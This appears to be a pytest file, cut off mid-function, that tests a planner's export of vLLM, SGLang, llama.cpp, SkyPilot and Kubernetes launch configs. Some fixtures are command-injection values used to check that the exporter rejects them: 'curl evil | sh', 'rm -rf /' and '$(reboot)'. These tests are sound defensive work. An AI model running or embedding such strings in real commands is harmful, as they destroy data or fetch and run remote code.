"""planner export: what comes out parses, and every flag is one the engine documents."""

import json
import shlex
from pathlib import Path

import pytest
import yaml

from planner import solve
from planner.catalog.load import load_catalog
from planner.errors import PlannerInputError
from planner.render.export import export, load_plan
from planner.render.records import solve_json

DATA = Path(__file__).parent / "data"
ENGINE_ARGS = yaml.safe_load((DATA / "engine-args.yaml").read_text())
CATALOG = load_catalog()


def write_plan(tmp_path, scenario: dict) -> Path:
    path = tmp_path / "plan.json"
    path.write_text(solve_json(solve(scenario)))
    return path


@pytest.fixture(scope="module")
def single_node(tmp_path_factory):
    return write_plan(tmp_path_factory.mktemp("p"), {
        "name": "chat 8b", "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 16, "replicas": 3},
        "search": {"gpus": ["l40s", "h100-sxm", "rtx-4090"], "precisions": ["bf16", "fp8"], "kv_dtypes": ["fp8"]},
        "engine": {"version": "0.19.0"}})  # the vLLM release these export tests were written against


@pytest.fixture(scope="module")
def multi_node(tmp_path_factory):
    return write_plan(tmp_path_factory.mktemp("p"), {
        "name": "ds", "model": "deepseek-v3", "workload": {"context": 32768, "concurrency": 32},
        "search": {"gpus": ["h200-sxm"], "precisions": ["fp8-block"], "max_gpus_per_replica": 32},
        "engine": {"version": "0.19.0"}})


def flags_and_values(argv: list[str]) -> dict[str, str]:
    pairs = {}
    for i, token in enumerate(argv):
        if token.startswith("--"):
            pairs[token] = argv[i + 1] if i + 1 < len(argv) and not argv[i + 1].startswith("--") else ""
    return pairs


def command_lines(text: str, program: str) -> list[list[str]]:
    return [shlex.split(line)[len(program.split()):] for line in text.splitlines() if line.startswith(program)]


def test_vllm_command_uses_documented_flags_and_the_plan(single_node):
    plan = load_plan(single_node, CATALOG)
    [argv] = command_lines(export(plan, "vllm"), "vllm serve")
    flags = flags_and_values(argv)
    assert argv[0] == "meta-llama/Llama-3.1-8B-Instruct"
    assert set(flags) <= set(ENGINE_ARGS["vllm"]["value_flags"])
    assert flags["--tensor-parallel-size"] == str(plan.tp) and flags["--max-model-len"] == "8192"
    assert flags["--max-num-seqs"] == "16" and flags["--kv-cache-dtype"] in ENGINE_ARGS["vllm"]["kv_cache_dtype"]
    assert 0.5 < float(flags["--gpu-memory-utilization"]) <= 0.95
    if "--quantization" in flags:
        assert flags["--quantization"] in ENGINE_ARGS["vllm"]["quantization"]


def test_sglang_command(single_node):
    # 8 sequences: SGLang 0.5.23's pool on the plan's RTX 4090 holds 15.49 of 8K (a 4096-token chunk, 48 decode and 50
    # prefill CUDA graphs reserved), not the vLLM 0.19 plan's 16
    plan = changed(load_plan(single_node, CATALOG), concurrency=8)
    [argv] = command_lines(export(plan, "sglang"), "python3 -m sglang.launch_server")
    flags = flags_and_values(argv)
    assert set(flags) <= set(ENGINE_ARGS["sglang"]["value_flags"])
    assert flags["--kv-cache-dtype"] in ENGINE_ARGS["sglang"]["kv_cache_dtype"]


def test_sglang_is_told_bf16_kv_where_its_auto_would_store_a_dsa_model_in_fp8(tmp_path):
    """SGLang's --kv-cache-dtype auto stores a DeepSeek Sparse Attention model's cache as fp8_e4m3 on Blackwell: a
    DSA plan sized and timed with bf16 KV says bfloat16; a model without DSA keeps auto, and FP8 stays fp8_e4m3."""
    def kv_flag(model, kv):
        folder = tmp_path / f"{model}-{kv}"
        folder.mkdir()
        path = write_plan(folder, {
            "name": "dsa", "model": model, "workload": {"context": 8192, "concurrency": 4, "replicas": 1},
            "search": {"gpus": ["b200"], "precisions": ["fp8-block"], "kv_dtypes": [kv], "max_gpus_per_replica": 8},
            "engine": {"name": "sglang"}})
        [argv] = command_lines(export(load_plan(path, CATALOG), "sglang"), "python3 -m sglang.launch_server")
        return flags_and_values(argv)["--kv-cache-dtype"]

    assert kv_flag("deepseek-v3.2", "bf16") == "bfloat16"
    assert kv_flag("deepseek-v3.2", "fp8") == "fp8_e4m3"
    assert kv_flag("deepseek-v3", "bf16") == "auto"
    assert {"bfloat16", "fp8_e4m3", "auto"} <= set(ENGINE_ARGS["sglang"]["kv_cache_dtype"])


def test_llamacpp_needs_a_gguf_precision(single_node, tmp_path):
    plan = load_plan(single_node, CATALOG)
    if plan.precision.gguf_type is None:
        with pytest.raises(PlannerInputError, match="GGUF"):
            export(plan, "llamacpp")
    path = write_plan(tmp_path, {"model": "llama-3.1-8b", "workload": {"context": 4096, "concurrency": 4},
                                 "search": {"gpus": ["rtx-4090"], "precisions": ["q4_k_m"], "allow_emulated": True},
                                 "engine": {"name": "llamacpp"}})  # GGUF: vLLM 0.34.0 has no GGUF method
    [argv] = command_lines(export(load_plan(path, CATALOG), "llamacpp"), "llama-server")
    flags = flags_and_values(argv)
    assert set(flags) <= set(ENGINE_ARGS["llamacpp"]["value_flags"])
    assert flags["--ctx-size"] == str(4096 * 4) and flags["--parallel"] == "4"
    assert flags["--cache-type-k"] in ENGINE_ARGS["llamacpp"]["cache_types"]


def test_skypilot_task_loads_and_requests_the_plans_gpus(single_node):
    plan = load_plan(single_node, CATALOG)
    task = yaml.safe_load(export(plan, "skypilot"))
    accelerator, count = task["resources"]["accelerators"].split(":")
    assert accelerator == CATALOG.gpus.get(plan.gpu).skypilot_accelerator and int(count) == plan.gpus_per_replica
    assert task["num_nodes"] == 1 and task["run"].startswith("vllm serve")


def test_kubernetes_deployment(single_node):
    plan = load_plan(single_node, CATALOG)
    doc = yaml.safe_load(export(plan, "kubernetes"))
    assert doc["kind"] == "Deployment" and doc["spec"]["replicas"] == 3
    container = doc["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == plan.gpus_per_replica
    assert container["command"][:2] == ["vllm", "serve"]
    assert set(flags_and_values(container["command"][2:])) <= set(ENGINE_ARGS["vllm"]["value_flags"])


def test_multi_node_exports_ray_and_leader_worker_set(multi_node):
    plan = load_plan(multi_node, CATALOG)
    assert plan.nodes_per_replica > 1
    vllm = export(plan, "vllm")
    assert "ray start --head" in vllm and "--distributed-executor-backend ray" in vllm
    assert "needs a checkpoint" not in vllm  # DeepSeek-V3 ships in fp8-block
    task = yaml.safe_load(export(plan, "skypilot"))
    assert task["num_nodes"] == plan.nodes_per_replica and "SKYPILOT_NODE_RANK" in task["run"]
    lws = yaml.safe_load(export(plan, "kubernetes"))
    assert lws["kind"] == "LeaderWorkerSet"
    assert lws["spec"]["leaderWorkerTemplate"]["size"] == plan.nodes_per_replica
    sglang = export(plan, "sglang")
    assert sglang.count("--node-rank") == plan.nodes_per_replica


def test_plan_index_and_bad_files(single_node, tmp_path):
    data = json.loads(single_node.read_text())
    assert load_plan(single_node, CATALOG, 1).gpu == data["alternatives"][0]["gpu"]
    with pytest.raises(PlannerInputError, match="--plan"):
        load_plan(single_node, CATALOG, 99)
    bad = tmp_path / "x.json"
    bad.write_text("{}")
    with pytest.raises(PlannerInputError, match="not a `planner solve --format json` output"):
        load_plan(bad, CATALOG)
    with pytest.raises(PlannerInputError, match="cannot read"):
        load_plan(tmp_path / "missing.json", CATALOG)


# --------------------------------------------------------------------------------------------
# Issue 12: deployments that start (each test failed before its fix)

from dataclasses import fields, replace  # noqa: E402

from planner import api  # noqa: E402
from planner.estimator.engines import EngineSettings  # noqa: E402
from planner.plan.configuration import Configuration  # noqa: E402
from planner.render.export import engine_version, vllm_image  # noqa: E402

CONFIGURATION_FIELDS = {f.name for f in fields(Configuration)}


def changed(plan, **changes):
    """The plan with configuration fields (gpu, tp, precision, context ...) and export fields changed together."""
    config = {k: v for k, v in changes.items() if k in CONFIGURATION_FIELDS}
    rest = {k: v for k, v in changes.items() if k not in CONFIGURATION_FIELDS}
    if "gpu" in config:
        card = CATALOG.gpus.get(config["gpu"])
        rest = {"vendor": card.vendor, "skypilot_accelerator": card.skypilot_accelerator, **rest}
    if "precision" in config:
        rest["weights"] = CATALOG.precisions.get(config["precision"])
    return replace(plan, configuration=replace(plan.configuration, **config), **rest)


def on(plan, gpu: str, provider: str, region: str = "unspecified", **changes):
    return changed(plan, gpu=gpu, provider=provider, region=region, **changes)


def test_skypilot_refuses_multi_node_where_the_cloud_has_none(multi_node):
    plan = on(load_plan(multi_node, CATALOG), "h200-sxm", "vast")
    with pytest.raises(PlannerInputError, match="multi-node.*vast"):
        export(plan, "skypilot")


def test_skypilot_refuses_spot_where_the_cloud_rents_none(single_node):
    plan = on(load_plan(single_node, CATALOG), "h100-sxm", "lambda", "us-east-1", market="spot")
    with pytest.raises(PlannerInputError, match="spot.*lambda"):
        export(plan, "skypilot")


@pytest.mark.parametrize("gpu, provider, region, accelerator, infra", [
    ("rtx-a6000", "lambda", "us-east-1", "A6000", "lambda/us-east-1"),   # vast/runpod call it RTXA6000
    ("rtx-5090", "runpod", "unspecified", "RTX5090", "runpod"),          # was refused: no gpus.yaml name
    ("rtx-6000-ada", "vast", "Japan, JP, AS", "RTX6000-Ada", "vast"),    # a marketplace location is no region id
    ("h100-sxm", "runpod", "unspecified", "H100-SXM", "runpod"),
])
def test_skypilot_names_the_gpu_as_that_cloud_does_and_pins_infra(single_node, gpu, provider, region, accelerator, infra):
    task = yaml.safe_load(export(on(load_plan(single_node, CATALOG), gpu, provider, region), "skypilot"))
    assert task["resources"]["accelerators"] == f"{accelerator}:1"
    assert task["resources"]["infra"] == infra and "cloud" not in task["resources"]


def test_skypilot_refuses_a_gpu_the_clouds_catalog_does_not_list(single_node):
    plan = on(load_plan(single_node, CATALOG), "mi300x", "azure", "eastus")
    with pytest.raises(PlannerInputError, match="azure.*mi300x"):
        export(plan, "skypilot")


def test_multi_node_skypilot_installs_the_pinned_vllm_and_ray(multi_node):
    task = yaml.safe_load(export(load_plan(multi_node, CATALOG), "skypilot"))
    # the plan was checked against the scenario's engine.version: that is the pin
    assert engine_version(load_plan(multi_node, CATALOG), "vllm") == "0.19.0"
    assert task["setup"] == "pip install vllm==0.19.0 'ray[cgraph]'"


def test_amd_plans_run_vllms_rocm_build(single_node):
    plan = on(load_plan(single_node, CATALOG), "mi300x", "runpod")
    task = yaml.safe_load(export(plan, "skypilot"))
    assert task["resources"]["image_id"] == "docker:vllm/vllm-openai-rocm:v0.19.0" and "setup" not in task
    container = yaml.safe_load(export(plan, "kubernetes"))["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == vllm_image(plan) == "vllm/vllm-openai-rocm:v0.19.0"
    assert container["resources"]["limits"] == {"amd.com/gpu": 1}


def test_int8_exports_the_prequantized_checkpoint(single_node):
    plan = changed(load_plan(single_node, CATALOG), precision="int8", concurrency=8)  # SGLang 0.5.23: see test_sglang_command
    [argv] = command_lines(export(plan, "vllm"), "vllm serve")
    assert argv[0] == "RedHatAI/Meta-Llama-3.1-8B-Instruct-quantized.w8a8" and "--quantization" not in argv
    [argv] = command_lines(export(plan, "sglang"), "python3 -m sglang.launch_server")
    flags = flags_and_values(argv)
    assert flags["--model-path"] == "RedHatAI/Meta-Llama-3.1-8B-Instruct-quantized.w8a8" and "--quantization" not in flags
    task = yaml.safe_load(export(plan, "skypilot"))
    assert "quantized.w8a8" in task["run"]


def test_int8_without_a_known_checkpoint_needs_one(single_node):
    plan = changed(load_plan(single_node, CATALOG), model="llama-3.1-70b", model_id="meta-llama/Llama-3.1-70B-Instruct",
                   precision="int8")
    with pytest.raises(PlannerInputError, match="--checkpoint"):
        export(plan, "vllm")
    [argv] = command_lines(export(plan, "vllm", checkpoint="my-org/Llama-70B-w8a8"), "vllm serve")
    assert argv[0] == "my-org/Llama-70B-w8a8"
    with pytest.raises(PlannerInputError, match="--checkpoint"):
        export(plan, "vllm", checkpoint="x; rm -rf /")


def _graph_warning(plan, utilization):
    return any("CUDA graphs" in w for w in api.engine_estimate(
        plan.model_id, EngineSettings("vllm", gpu_memory_utilization=utilization, version="0.19.0"), context=plan.context,
        batch=plan.concurrency, precision=plan.precision.name, kv_dtype=plan.kv_dtype, gpu=plan.gpu).engine.warnings)


def test_the_cuda_graph_start_up_warning_is_exported_away(single_node):
    plan = on(load_plan(single_node, CATALOG), "rtx-4090", "runpod", precision="fp8", kv_dtype="fp8", context=8192,
              concurrency=4, tp=1, pp=1, engine=EngineSettings("vllm", version="0.19.0"),
              gpu_memory_utilization=0.95)
    assert _graph_warning(plan, 0.95)  # what the plan itself would start with
    [argv] = command_lines(export(plan, "vllm"), "vllm serve")
    exported = float(flags_and_values(argv)["--gpu-memory-utilization"])
    assert exported < 0.95 and not _graph_warning(plan, exported) and "--enforce-eager" not in argv
    # no lower utilization holds 26 sequences: run eager instead
    full = changed(plan, concurrency=26)
    [argv] = command_lines(export(full, "vllm"), "vllm serve")
    assert "--enforce-eager" in argv and flags_and_values(argv)["--gpu-memory-utilization"] == "0.95"
    assert set(flags_and_values(argv)) <= set(ENGINE_ARGS["vllm"]["value_flags"] + ENGINE_ARGS["vllm"]["switch_flags"])


@pytest.fixture(scope="module")
def gguf_plan(tmp_path_factory):
    path = write_plan(tmp_path_factory.mktemp("p"), {
        "model": "llama-3.1-8b", "workload": {"context": 4096, "concurrency": 4},
        "search": {"gpus": ["rtx-4090"], "precisions": ["q4_k_m"], "kv_dtypes": ["fp8"], "allow_emulated": True},
        "engine": {"name": "llamacpp"}})  # GGUF: vLLM 0.34.0 has no GGUF method
    return load_plan(path, CATALOG)


def test_llamacpp_quantized_v_cache_turns_flash_attention_on(gguf_plan):
    [argv] = command_lines(export(gguf_plan, "llamacpp"), "llama-server")
    flags = flags_and_values(argv)
    assert flags["--cache-type-v"] == "q8_0" and flags["--flash-attn"] == "on"
    assert set(flags) <= set(ENGINE_ARGS["llamacpp"]["value_flags"])
    fp16 = changed(gguf_plan, kv_dtype="fp16", engine=replace(gguf_plan.configuration.engine, cache_type=None))
    [argv] = command_lines(export(fp16, "llamacpp"), "llama-server")
    assert "--flash-attn" not in argv


def test_llamacpp_sizes_fp8_kv_as_q8_0(gguf_plan):
    plan = changed(gguf_plan, context=32768)

    def fits(sequences: int) -> bool:  # llama.cpp's profile with q8_0: 34 bytes per 32 values
        return api.engine_estimate(plan.model_id, EngineSettings("llamacpp", cache_type="q8_0", flash_attn=True),
                                   context=plan.context, batch=sequences, precision=plan.precision.name,
                                   gpu=plan.gpu).engine.fits

    most = max(n for n in range(1, 65) if fits(n))
    assert most < 64
    [argv] = command_lines(export(changed(plan, concurrency=most), "llamacpp"), "llama-server")
    assert flags_and_values(argv)["--parallel"] == str(most)
    with pytest.raises(PlannerInputError, match="q8_0 cache"):
        export(changed(plan, concurrency=most + 1), "llamacpp")


def test_sglang_on_amd_long_context_uses_the_aiter_fraction_the_profile_sized(single_node):
    settings = EngineSettings("sglang")
    short, long = (api.engine_estimate("llama-3.1-8b", settings, context=c, gpu="mi300x").engine for c in (8192, 8193))
    assert long.budget_bytes / short.budget_bytes == pytest.approx(0.85, abs=1e-6)
    nvidia = (api.engine_estimate("llama-3.1-8b", settings, context=c, gpu="h200-sxm").engine for c in (8192, 8193))
    assert len({e.budget_bytes for e in nvidia}) == 1

    plan = on(load_plan(single_node, CATALOG), "mi300x", "runpod", precision="bf16", kv_dtype="bf16", context=131072,
              tp=1, pp=1, engine=EngineSettings("vllm"))
    held = api.engine_estimate(plan.model_id, settings, context=plan.context, precision="bf16", gpu="mi300x").engine
    fits = changed(plan, concurrency=int(held.max_concurrency))
    exported = export(fits, "sglang")
    assert "SGLang runs its aiter attention backend for this model" in exported
    [argv] = command_lines(exported, "python3 -m sglang.launch_server")
    flags = flags_and_values(argv)
    # no backend is passed: SGLang resolves aiter for Llama on ROCm, the backend the profile sized the pool with
    assert "--attention-backend" not in flags
    assert float(flags["--mem-fraction-static"]) == held.settings.mem_fraction_static
    with pytest.raises(PlannerInputError, match="SGLang's pool holds"):
        export(changed(plan, concurrency=int(held.max_concurrency) + 1), "sglang")


def test_hf_token_comes_from_a_secret(single_node, multi_node):
    container = yaml.safe_load(export(load_plan(single_node, CATALOG), "kubernetes"))["spec"]["template"]["spec"]["containers"][0]
    assert {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf-token", "key": "token", "optional": True}}} in container["env"]
    lws = yaml.safe_load(export(load_plan(multi_node, CATALOG), "kubernetes"))["spec"]["leaderWorkerTemplate"]
    for role in ("leaderTemplate", "workerTemplate"):
        assert lws[role]["spec"]["containers"][0]["env"][0]["name"] == "HF_TOKEN"
    text = export(load_plan(single_node, CATALOG), "skypilot")
    assert yaml.safe_load(text)["secrets"] == {"HF_TOKEN": None} and "--secret HF_TOKEN" in text


def test_untrusted_plan_values_stay_data(single_node):
    plan = load_plan(single_node, CATALOG)
    hostile = changed(plan, model_id="org/$(reboot)'x", name="a\nb")
    with pytest.raises(PlannerInputError, match="name"):
        export(hostile, "skypilot")
    quoted = replace(hostile, name="n")
    for target in ("vllm", "skypilot"):  # not a Hub repository id: never placed in a command
        with pytest.raises(PlannerInputError, match="model_id"):
            export(quoted, target)
    with pytest.raises(PlannerInputError, match="tp"):
        export(changed(plan, tp="1; reboot"), "skypilot")

# --- plans carry the settings they were checked with ---------------------------------------------------

def test_export_uses_the_utilization_the_plan_was_checked_with(tmp_path):
    path = write_plan(tmp_path, {
        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 8},
        "search": {"gpus": ["l40s"], "precisions": ["bf16"]}, "engine": {"gpu_memory_utilization": 0.85}})
    best = json.loads(path.read_text())["best"]
    assert best["engine"]["name"] == "vllm" and best["engine"]["gpu_memory_utilization"] == 0.85
    assert best["model"] == "llama-3.1-8b" and best["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
    assert best["max_model_len"] == 8192 and best["kv_dtype"] == "bf16"
    [argv] = command_lines(export(load_plan(path, CATALOG), "vllm"), "vllm serve")
    assert flags_and_values(argv)["--gpu-memory-utilization"] == "0.85"


def test_sglang_gets_the_static_fraction_its_plan_used(tmp_path):
    path = write_plan(tmp_path, {
        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 4},
        "search": {"gpus": ["h100-sxm"], "precisions": ["bf16"]}, "engine": {"name": "sglang"}})
    fraction = json.loads(path.read_text())["best"]["engine"]["mem_fraction_static"]
    assert 0 < fraction < 1
    [argv] = command_lines(export(load_plan(path, CATALOG), "sglang"), "python3 -m sglang.launch_server")
    assert float(flags_and_values(argv)["--mem-fraction-static"]) == fraction  # exactly what the plan was checked with


@pytest.fixture(scope="module")
def fleet_file(tmp_path_factory):
    from planner import api
    from planner.render.records import fleet_json

    plan = api.plan_fleet({
        "name": "chat", "model": "llama-3.1-8b",
        "workload": {"context": 4096, "traffic": {"requests_per_s": 4, "prompt_tokens": 1000, "output_tokens": 200},
                     "slo": {"ttft_s": 2, "tpot_s": 0.05}},
        "search": {"gpus": ["l40s", "h100-sxm"], "precisions": ["bf16"]},
        "pricing": {"providers": ["lambda", "runpod"]}}, catalog=CATALOG)
    path = tmp_path_factory.mktemp("f") / "fleet.json"
    path.write_text(fleet_json(plan, "chat"))
    return path


def test_a_fleet_plan_exports_one_launch_per_assignment_with_its_settings(fleet_file):
    from planner.render.export import export_all, load_plans

    rows = json.loads(fleet_file.read_text())["assignments"]
    plans = load_plans(fleet_file, CATALOG)
    assert rows and len(plans) == len(rows)
    launches = command_lines(export_all(plans, "vllm"), "vllm serve")
    assert len(launches) == len(rows)
    for row, argv in zip(rows, launches):
        flags = flags_and_values(argv)
        assert argv[0] == row["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
        assert flags["--tensor-parallel-size"] == str(row["tp"]) and flags["--max-model-len"] == str(row["max_model_len"])
        assert flags["--gpu-memory-utilization"] == f"{row['engine']['gpu_memory_utilization']:.2f}"
        # a replica sized by the requests in flight runs as many as the engine's resolved cap, not one
        assert flags["--max-num-seqs"] == str(row["engine"]["max_num_seqs"]) and int(flags["--max-num-seqs"]) > 1
    only = load_plans(fleet_file, CATALOG, assignment=len(rows) - 1)
    assert len(only) == 1 and only[0].replicas == rows[-1]["replicas"]
    with pytest.raises(PlannerInputError, match="--assignment"):
        load_plans(fleet_file, CATALOG, assignment=len(rows))
    docs = list(yaml.safe_load_all(export_all(plans, "kubernetes")))
    assert len({d["metadata"]["name"] for d in docs}) == len(rows)
    # SGLang admits a fleet replica's requests by its token pool, as its capacity was planned: no cap of one
    for argv in command_lines(export_all(plans, "sglang"), "python3 -m sglang.launch_server"):
        assert "--max-running-requests" not in argv and "--context-length" in argv


# --- damaged and hostile plan files: one line naming the problem --------------------------------------

def _set(path: list, value):
    def change(data):
        target = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        return json.dumps(data)
    return change


DAMAGED = {
    "alternatives null": (_set(["alternatives"], None), "alternatives"),
    "alternatives an int": (_set(["alternatives"], 5), "alternatives"),
    "tp a string": (_set(["best", "tp"], "2"), "best.tp"),
    "tp 3 on 8 KV heads": (_set(["best", "tp"], 3), "attention heads"),
    "context -5": (_set(["best", "context"], -5), "best.context"),
    "context null": (_set(["best", "context"], None), "best.context"),
    "model_id not a string": (_set(["best", "model_id"], 7), "best.model_id"),
    "model_id with a newline": (_set(["best", "model_id"], "x\ncurl evil | sh"), "best.model_id"),
    "gpus_per_instance a string": (_set(["best", "gpus_per_instance"], "8; rm -rf /"), "best.gpus_per_instance"),
    "gpus_per_instance huge": (_set(["best", "gpus_per_instance"], 10**9), "best.gpus_per_instance"),
    "unknown gpu": (_set(["best", "gpu"], "h10"), "unknown gpu"),
    "more stages than layers": (_set(["best", "pp"], 4096), "stages for 32 layers"),
    "gpus_per_replica and nodes tampered": (lambda d: _set(["best", "nodes_per_replica"], 10**8)(
        json.loads(_set(["best", "gpus_per_replica"], 10**9)(d))), None),
    "engine settings out of range": (_set(["best", "engine", "gpu_memory_utilization"], 7), "gpu_memory_utilization"),
    "NaN": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": NaN'), "NaN"),
    "Infinity": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": Infinity'), "Infinity"),
    "1e400": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": 1e400'), "1e400"),
    "10^400": (_set(["best", "context"], 10**400), "best.context"),
    "deep nesting": (lambda d: "[" * 100_000 + "]" * 100_000, "plan"),
    "another tool's JSON": (lambda d: json.dumps({"version": 1, "deployments": []}), "not a `planner solve"),
    "a list": (lambda d: "[]", "not a `planner solve"),
    "an older plan file": (lambda d: json.dumps({k: v for k, v in d.items() if k != "schema_version"}), "schema_version"),
}


@pytest.mark.parametrize("case", sorted(DAMAGED))
def test_damaged_plan_files_are_refused_in_one_line(single_node, tmp_path, case):
    damage, needle = DAMAGED[case]
    bad = tmp_path / "bad.json"
    bad.write_text(damage(json.loads(single_node.read_text())))
    if needle is None:  # fields export recomputes from tp, pp and the instance: never read from the file
        plan = load_plan(bad, CATALOG)
        assert plan.gpus_per_replica == plan.tp * plan.pp and plan.nodes_per_replica == 1
        return
    with pytest.raises(PlannerInputError) as info:
        load_plan(bad, CATALOG)
    message = str(info.value)
    assert needle in message and "\n" not in message and len(message) < 400


def test_a_plan_file_that_is_not_a_regular_file(tmp_path):
    with pytest.raises(PlannerInputError, match="not a regular file"):
        load_plan(tmp_path, CATALOG)


def test_export_command_exits_2_on_a_damaged_plan(single_node, tmp_path):
    import subprocess
    import sys

    bad = tmp_path / "bad.json"
    bad.write_text(_set(["best", "context"], -5)(json.loads(single_node.read_text())))
    proc = subprocess.run([sys.executable, "-m", "planner.cli", "export", str(bad), "--to", "vllm"],
                          capture_output=True, text=True, cwd=tmp_path)
    assert proc.returncode == 2 and proc.stdout == ""
    assert len(proc.stderr.strip().splitlines()) == 1 and "best.context" in proc.stderr


HOSTILE_VALUES = [None, True, -1, 0, 3, 2**63, 10**400, 1e308, -0.5, "", "8", "x\ny", "a b", "\ud800", [], {}, [1, 2],
                  {"name": "vllm"}, "fp8", "h100-sxm", "on-demand"]


def _leaves(data, path=()):
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from _leaves(value, (*path, i))
    else:
        yield path


def test_random_damage_to_a_plan_file_is_refused_or_re_checked(single_node, tmp_path):
    """Seeded: one leaf of the best plan (or a top-level key) replaced by a hostile value, 150 times. Every
    outcome is either a plan the estimator confirms or one line naming the problem; never a traceback."""
    import random

    rng = random.Random(13)
    original = json.loads(single_node.read_text())
    paths = [p for p in _leaves(original) if p[0] in ("best", "schema_version", "kind", "alternatives", "scenario")
             and "memory" not in p]
    bad = tmp_path / "bad.json"
    for _ in range(150):
        data = json.loads(json.dumps(original))
        path = rng.choice(paths)
        target = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = rng.choice(HOSTILE_VALUES)
        bad.write_text(json.dumps(data))
        try:
            plan = load_plan(bad, CATALOG)
        except PlannerInputError as exc:
            assert "\n" not in str(exc) and len(str(exc)) < 600, (path, str(exc))
        else:
            assert plan.tp * plan.pp == plan.gpus_per_replica and export(plan, "vllm").startswith(("vllm", "#"))


def test_a_fleet_export_runs_as_many_requests_as_the_plan_was_sized_for(tmp_path):
    from planner import api
    from planner.render.export import export_all, load_plans
    from planner.render.records import fleet_json

    scenario = {"name": "chat", "model": "llama-3.1-8b",
                "workload": {"context": 4096, "concurrency": 32,
                             "traffic": {"requests_per_s": 4, "prompt_tokens": 1000, "output_tokens": 200},
                             "slo": {"ttft_s": 2, "tpot_s": 0.05}},
                "search": {"gpus": ["l40s", "h100-sxm"], "precisions": ["bf16"]},
                "pricing": {"providers": ["lambda", "runpod"]}}
    plan = api.plan_fleet(scenario, catalog=CATALOG)
    path = tmp_path / "fleet.json"
    path.write_text(fleet_json(plan, "chat"))
    rows = json.loads(path.read_text())["assignments"]
    assert rows and all(a.config.scheduler.max_num_seqs == 32 for a in plan.assignments)  # the capacity's cap
    launches = command_lines(export_all(load_plans(path, CATALOG), "vllm"), "vllm serve")
    for row, argv in zip(rows, launches, strict=True):
        assert row["max_num_seqs"] == 32 and row["engine"]["max_num_seqs"] > 32  # the engine's own default is larger
        assert flags_and_values(argv)["--max-num-seqs"] == "32"


def test_a_plan_pins_the_engine_release_it_was_checked_against(tmp_path):
    """A scenario without engine.version is planned with vLLM's current release (0.34.0), and its exports install
    that release: the pip spec and the image tag; the plan JSON carries the version."""
    path = write_plan(tmp_path, {"model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 4},
                                 "search": {"gpus": ["h100-sxm"], "precisions": ["bf16"]}})
    assert json.loads(path.read_text())["best"]["engine"]["version"] == "0.34.0"
    plan = load_plan(path, CATALOG)
    assert "# vLLM 0.34.0 (the release the plan was checked against): pip install vllm==0.34.0" in export(plan, "vllm")
    container = yaml.safe_load(export(plan, "kubernetes"))["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "vllm/vllm-openai:v0.34.0"
    # the SGLang export of a vLLM plan pins SGLang's current release
    assert "pip install \"sglang==0.5.23\"" in export(plan, "sglang")


@pytest.fixture(scope="module")
def stated_kernel(tmp_path_factory):
    """Kimi-K2.5's int4 experts timed on FlashInfer's MxInt4 MoE, which vLLM runs when told to (engine.moe_kernel)."""
    return write_plan(tmp_path_factory.mktemp("p"), {
        "name": "kimi", "model": "kimi-k2.5", "workload": {"context": 16384, "concurrency": 32},
        "search": {"gpus": ["h200-sxm", "b200"], "precisions": ["int4-g32"]},
        "engine": {"name": "vllm", "moe_kernel": "flashinfer_trtllm"}})


def test_a_stated_moe_kernel_is_exported_as_the_engines_switch_and_only_to_that_engine(stated_kernel):
    """The plan was timed on the stated kernel: vLLM is started with VLLM_USE_FLASHINFER_MOE_INT4=1 (command,
    SkyPilot envs, Kubernetes env); an export to another engine, which would not run that kernel, is refused."""
    data = json.loads(stated_kernel.read_text())
    assert data["best"]["engine"]["moe_kernel"] == "flashinfer_trtllm"
    assert any("h200-sxm" in line and "'flashinfer_trtllm'" in line for line in data["skipped"])
    plan = load_plan(stated_kernel, CATALOG)
    assert plan.gpu == "b200" and plan.configuration.engine.moe_kernel == "flashinfer_trtllm"
    command = export(plan, "vllm")
    assert "export VLLM_USE_FLASHINFER_MOE_INT4=1" in command.splitlines()
    assert yaml.safe_load(export(plan, "skypilot"))["envs"] == {"VLLM_USE_FLASHINFER_MOE_INT4": "1"}
    container = yaml.safe_load(export(plan, "kubernetes"))["spec"]["template"]["spec"]["containers"][0]
    assert {"name": "VLLM_USE_FLASHINFER_MOE_INT4", "value": "1"} in container["env"]
    for target in ("sglang", "llamacpp"):
        with pytest.raises(PlannerInputError, match=f"--to {target}: the plan was timed on vllm's 'flashinfer_trtllm'"):
            export(plan, target)


def test_sglang_is_told_the_stated_moe_kernel(multi_node):
    """An SGLang plan's stated kernel is its --moe-runner-backend (a choice SGLang documents); vLLM is started with
    no switch when none is stated."""
    plan = load_plan(multi_node, CATALOG)
    assert "VLLM_USE_FLASHINFER_MOE" not in export(plan, "vllm") and "envs" not in yaml.safe_load(export(plan, "skypilot"))
    sglang = changed(plan, engine=replace(plan.configuration.engine, name="sglang", version="0.5.23",
                                          moe_kernel="triton", gpu_memory_utilization=None, block_size=None,
                                          kv_cache_memory_bytes=None))
    for argv in command_lines(export(sglang, "sglang"), "python3 -m sglang.launch_server"):
        flags = flags_and_values(argv)
        assert flags["--moe-runner-backend"] == "triton"
        assert flags["--moe-runner-backend"] in ENGINE_ARGS["sglang"]["moe_runner_backend"]
    with pytest.raises(PlannerInputError, match="--to vllm: the plan was timed on sglang's 'triton'"):
        export(sglang, "vllm")


def test_an_sglang_plan_told_an_attention_backend_is_sized_and_exported_with_it(tmp_path):
    """engine.attention_backend: triton on MI300X at 32K: SGLang keeps its whole fraction (no aiter, no 0.85), the
    plan records the backend, and the export tells the servers it (and says nothing of aiter's 0.85)."""
    scenario = {"name": "amd", "model": "llama-3.1-8b", "workload": {"context": 32768, "concurrency": 8},
